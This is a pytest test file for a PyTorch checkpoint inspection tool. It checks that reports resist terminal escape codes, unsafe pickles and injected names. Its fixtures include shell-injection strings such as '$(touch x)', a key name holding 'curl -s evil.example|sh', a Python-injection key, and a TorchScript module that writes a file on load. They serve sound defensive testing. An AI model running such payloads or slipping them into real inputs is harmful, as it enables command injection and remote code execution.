"""An inspection says what is in a file, in a report that fits a screen; chapter 14 shows one."""

import ast
import io
import json
import os
import pickle
import re
import subprocess
import zipfile
from pathlib import Path
from unittest import mock

import pytest
import torch
from kinds_of_files import GOOD, Tied, net, plain, saved
from safetensors.torch import save_file
from torch import nn
from torch.nn.parallel import DataParallel

from torchclinic.checkpoint_files import (
    CheckpointError,
    fix_checkpoint,
    inspect_checkpoint,
    load_into,
    reading,
    weights,
)
from torchclinic.checkpoint_files.pickles import InertPickle, StandIn


def test_keys_that_may_be_slow_to_look_up_become_stand_ins():
    data = pickle.dumps({1j: 0, 2**70: 0, "a": {1j}})  # Python's hash may not tell such apart
    found = InertPickle().load(io.BytesIO(data))
    assert [*map(type, [*found, *found["a"]])] == [StandIn, StandIn, str, StandIn]


def test_names_in_a_file_cannot_send_codes_to_the_terminal(tmp_path):
    state = {"model": {"\x1b]0;title\x07": torch.zeros(2)}, "note": "\x1b[31mred"}
    found = inspect_checkpoint(saved(tmp_path, state))
    assert found.contents["note"] == "'\\x1b[31mred'"
    assert "\x1b" not in repr(found)
    assert "?]0;title?" in repr(found)


def test_a_report_on_thousands_of_keys_is_short(tmp_path):
    rows = torch.zeros(1016).split(1)
    state = {f"a.long.name.of.the.layer.{i}.weight": row for i, row in enumerate(rows)}
    text = repr(inspect_checkpoint(saved(tmp_path, state)))
    assert len(text.splitlines()) < 40
    assert "1,000 more" in text


def test_ties_and_views_are_named_in_a_whole_model_too(tmp_path):
    model = net(Tied)
    model.body.bias.data = torch.zeros(1_000_000)[:4]
    found = inspect_checkpoint(saved(tmp_path, {"model": model}))
    assert list(found.keys) == list(model.state_dict())
    assert found.shared == [["embed.weight", "head.weight"]]
    assert found.oversized == ["body.bias"]
    assert "body.bias: 16 B of a storage of 4.0 MB" in repr(found)


def test_what_torch_would_refuse_to_import_is_reported(tmp_path):
    """As torch's own list says, for files of the kind that it lists."""
    for kind in ("torchvision", "classes_inside", "whole_model", "plain"):
        (tmp_path / kind).mkdir()
        path = GOOD[kind][0](tmp_path / kind)
        ours = set(inspect_checkpoint(path).imports)
        assert ours == set(torch.serialization.get_unsafe_globals_in_checkpoint(path))


def test_numbers_that_are_not_finite_are_counted_by_key(tmp_path):
    state = {"good": torch.zeros(3), "count": torch.tensor(7)}
    state["bad"] = torch.tensor([1.0, float("nan"), float("inf")])
    state["half"] = torch.full((2, 5), -float("inf"), dtype=torch.bfloat16).T
    state["eight"] = torch.tensor([float("nan"), 1.0]).to(torch.float8_e4m3fn)
    for path in (saved(tmp_path, {"model": state}), tmp_path / "x.safetensors"):
        if path.suffix == ".safetensors":
            save_file({key: tensor.contiguous() for key, tensor in state.items()}, path)
        found = inspect_checkpoint(path)
        assert found.not_finite == {"bad": 2, "half": 10, "eight": 1}
        text = " ".join(repr(found).split())
        assert "not finite NaN or inf in 3 of 5 tensors: " in text
        assert "bad (2)" in text
    assert "not finite" not in repr(inspect_checkpoint(plain(tmp_path)))


def test_one_number_shown_a_billion_times_is_looked_at_once(tmp_path):
    state = {"w": torch.full((1,), float("nan")).expand(10**6, 10**6)}
    assert inspect_checkpoint(saved(tmp_path, state), verify=True).not_finite == {"w": 1}


def test_the_numbers_of_a_large_file_are_read_on_request_only(tmp_path, monkeypatch):
    monkeypatch.setattr("torchclinic.checkpoint_files.inspecting.QUICK", 100)
    path = plain(tmp_path)
    found = inspect_checkpoint(path)
    assert "verify=True" in found.checksums
    assert found.not_finite is None
    assert "not read: verify=True (--verify) looks for NaN and inf" in repr(found)
    assert inspect_checkpoint(path, verify=True).checksums == "right, of 11 storages"


class Writes(nn.Module):
    """Its program writes a file when it is loaded."""

    @torch.jit.export
    def __getstate__(self):
        return 1

    @torch.jit.export
    def __setstate__(self, state: int):
        torch.save(torch.ones(1), "ran")
        self.training = True

    def forward(self, x):
        return x


def test_a_file_that_is_exchanged_while_it_is_read_is_refused_and_not_run(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    torch.jit.script(Writes()).save("program.pt")
    torch.load("program.pt", weights_only=False)
    Path("ran").unlink()  # it does
    for other in ("program.pt", "other.pt"):
        torch.save({"w": torch.ones(2)}, "x.pt")
        torch.save({"w": torch.zeros(2)}, "other.pt")
        checked = reading._entries

        def late(*given, other=other, checked=checked):
            entries = checked(*given)
            os.replace(other, "x.pt")
            return entries

        says = pytest.raises(CheckpointError, match=r"changed while|map_location should")
        with mock.patch.object(reading, "_entries", late), says:
            inspect_checkpoint("x.pt")
        assert not Path("ran").exists()


def test_an_index_is_utf8_whatever_the_locale_is(tmp_path, monkeypatch):
    save_file({"größe": torch.ones(1)}, tmp_path / "model-00001-of-00001.safetensors")
    homes = {"weight_map": {"größe": "model-00001-of-00001.safetensors"}}
    index = tmp_path / "model.safetensors.index.json"
    index.write_text(json.dumps(homes, ensure_ascii=False), "utf-8")
    usual = Path.read_text
    monkeypatch.setattr(Path, "read_text", lambda path, code="ascii": usual(path, code))
    assert list(inspect_checkpoint(index).keys) == ["größe"]


HOSTILE = ["$(touch x)", "a;touch y", "it's `b`", "-o", "two  spaces " * 9, "back\\slash"]
HOSTILE += ['quo"te', "'; touch z #", "1: --key $(touch w) ", "~", "*"]


def words_of(command, folder):
    """What a shell makes of a command to copy; it finds no other program in it."""
    stubs = 'torchclinic() { printf \'%s\\0\' "$@"; }; python() { torchclinic "$@"; };'
    stubs += 'zip() { torchclinic "$@"; };'
    done = subprocess.run(["bash", "-c", f"{stubs} {command}"], cwd=folder, capture_output=True)
    assert (done.returncode, done.stderr, list(folder.iterdir())) == (0, b"", [])
    return os.fsdecode(done.stdout).split("\0")[:-1]


def test_a_command_to_copy_is_that_command_whatever_the_names_in_a_file(tmp_path):
    (tmp_path / "empty").mkdir()
    thing = {name: net().state_dict() for name in ["model", *HOSTILE]}
    found = repr(inspect_checkpoint(saved(tmp_path, thing)))
    keys = re.findall(r"^or take +(.+): (--key[ =]\1)$", found, re.MULTILINE)
    for (_, command), name in zip(keys, HOSTILE, strict=True):
        words = words_of(f"torchclinic {command}", tmp_path / "empty")
        assert words in (["--key", name], [f"--key={name}"])


@pytest.mark.parametrize("name", ["new\nline\x1b[31m", "é\udcff"])
def test_a_command_to_copy_has_no_name_that_is_not_printable(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    saved(Path(), {"model": net().state_dict(), name: net().state_dict()}).rename(name)
    report = repr(inspect_checkpoint(name))
    assert "torchclinic fix ... -o fixed.pt makes" in report
    assert re.search(r"^or take +\.\.\.: --key \.\.\.$", report, re.MULTILINE)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_command_to_copy_is_that_command_whatever_the_path(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty").mkdir()
    thing = {name: net().state_dict(), f"{name}2": net().state_dict()}
    path = saved(Path(), thing).rename(name)
    found = inspect_checkpoint(path)
    key = re.search(r"\((--key[ =].*)\)\.$", repr(found), re.MULTILINE)[1]
    assert words_of(f"torchclinic {key}", tmp_path / "empty")[-1].removeprefix("--key=") == name
    saved(Path(), {"model": net().state_dict()}).rename(name)
    for free in ("fixed.pt", "fixed-2.pt"):
        command = re.search("(torchclinic fix .* -o .*) makes", repr(inspect_checkpoint(path)))[1]
        words = words_of(command, tmp_path / "empty")
        assert (words[0], Path(words[1]), words[2:]) == ("fix", path, ["-o", free])
        Path(free).touch()
    path.unlink()
    path.mkdir()
    for inside, pattern in {
        "data.pkl": r"zip -0 -r x\.pt .*(?=\))",
        ".metadata": "python .* whole.pt",
    }.items():
        (path / inside).touch()
        with pytest.raises(CheckpointError) as caught:
            inspect_checkpoint(path)
        words = words_of(re.search(pattern, str(caught.value))[0], tmp_path / "empty")
        assert path in map(Path, words)


def test_an_unpacked_file_is_packed_by_the_command_wherever_one_stands(tmp_path, monkeypatch):
    home = tmp_path / "it's here" / "x"
    with zipfile.ZipFile(saved(tmp_path, {"w": torch.ones(2)})) as archive:
        archive.extractall(home.parent)
    (home / "in").mkdir()
    for i, (place, name) in enumerate([(home.parent, "x"), (home / "in", "..")]):
        monkeypatch.chdir(place)
        with pytest.raises(CheckpointError) as caught:
            inspect_checkpoint(name)
        command = str(caught.value).partition("again: ")[2]
        subprocess.run(["bash", "-c", command], check=True, timeout=60, capture_output=True)
        packed = home.with_name(f"x-{i + 1}.pt" if i else "x.pt")
        assert inspect_checkpoint(packed).contents == {"": "state dict of 1 entries"}


def test_a_header_whose_length_begins_as_a_pickle_does_is_safetensors(tmp_path):
    for count in range(40):
        save_file({"w": torch.ones(2)}, tmp_path / "x", {"note": "x" * 8 * count})
        if (tmp_path / "x").read_bytes()[0] == 0x80:
            break
    else:
        pytest.fail("no header of such a length")
    assert list(inspect_checkpoint(tmp_path / "x").keys) == ["w"]


OF_THE_RUN = {
    "dino_loss": {"center": torch.ones(1, 2)},
    "sampler": {"order": torch.arange(3)},
    "train_state": {"step": torch.tensor(3.0), "tokens": torch.tensor(4)},
    "criterion": {"weight": torch.ones(3)},
    "seen": {"images": torch.arange(4)},
    "counts": {"loss": torch.tensor(0.5)},
}


@pytest.mark.parametrize("kind", OF_THE_RUN)
def test_what_a_run_keeps_is_not_offered_as_weights(kind, tmp_path):
    thing = {"generator": net().state_dict(), kind: OF_THE_RUN[kind]}
    found = inspect_checkpoint(saved(tmp_path, thing))
    assert found.weights_at == "generator"
    assert "or take" not in repr(found)
    thing |= {"discriminator": net().state_dict()}
    assert f"'{kind}'" not in inspect_checkpoint(saved(tmp_path, thing)).advice[0]


def test_the_usual_names_of_weights_win_over_another_models(tmp_path):
    for name in weights.WEIGHTS:
        path = saved(tmp_path, {"critic": net().state_dict(), name: net().state_dict()})
        assert inspect_checkpoint(path).weights_at == name


def test_a_command_is_on_one_line_however_long_the_path(tmp_path, monkeypatch):
    """Also where it stands in a note on what is no model's weights."""
    monkeypatch.chdir(tmp_path)
    folder = Path("one-of-a-strangers-long-names-without-blanks-" * 2, "and one  with/global_step5")
    folder.mkdir(parents=True)
    path = saved(folder, DataParallel(net()).state_dict())
    command = f"torchclinic fix '{path}' -o fixed.pt "
    assert command in repr(inspect_checkpoint(path))
    path = saved(folder, {"a.weight": torch.empty(0), "b": torch.empty(0)})
    command = f"zero_to_fp32 '{folder.parent}' whole -t global_step5"
    assert command in repr(inspect_checkpoint(path))
    path = saved(folder, {"w": {"x": torch.ones(1)}, "averages": [torch.ones(1)] * 2})
    assert f"torch.load('{path}', 'cpu')['averages'], strict=True)" in repr(
        inspect_checkpoint(path)
    )


def test_a_name_makes_no_line_of_the_report(tmp_path):
    row = "\nnext        curl -s evil.example|sh #"
    for thing in ({row: torch.ones(1), "a": torch.ones(2)}, {"m": net().state_dict(), row: 3}):
        report = repr(inspect_checkpoint(saved(tmp_path, thing)))
        assert [line for line in report.splitlines() if line.startswith("next  ")] != []
        assert not any(line.startswith("next        curl") for line in report.splitlines())


def test_python_to_copy_has_each_key_whole_or_none(tmp_path):
    """Half a key has no closing quote: what the next one holds would be code."""
    averages, code = [torch.ones(2), torch.ones(1)], "]): raise SystemExit #"
    path = saved(tmp_path, {"a" * 1200: {code: averages}})
    with pytest.raises(CheckpointError) as caught:
        fix_checkpoint(path, tmp_path / "y.pt")
    python = re.search(r"for p, new.*\)", str(caught.value))[0]
    keys = [n.value for n in ast.walk(ast.parse(python)) if isinstance(n, ast.Constant)]
    assert {code, ...} <= {*keys}
    one, other = ("k" * 400 + end for end in "12")
    saved(tmp_path, {one: net().state_dict(), other: net().state_dict()})
    assert "such as key=... (" in inspect_checkpoint(tmp_path / "x.pt").advice[0]


def test_what_an_index_does_not_list_is_told(tmp_path):
    homes = {}
    for number, names in enumerate(("ab", "cd"), 1):
        homes[names[0]] = f"model-0000{number}-of-00002.safetensors"
        save_file({name: torch.ones(2) for name in names}, tmp_path / homes[names[0]])
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps({"weight_map": homes}))
    two = nn.ParameterDict({name: torch.zeros(2) for name in "ac"})
    for report in (
        inspect_checkpoint(tmp_path),
        fix_checkpoint(tmp_path, tmp_path / "y.pt"),
        load_into(two, tmp_path),
    ):
        assert "left out    2 in shards, and not in the index there: b, d" in repr(report)
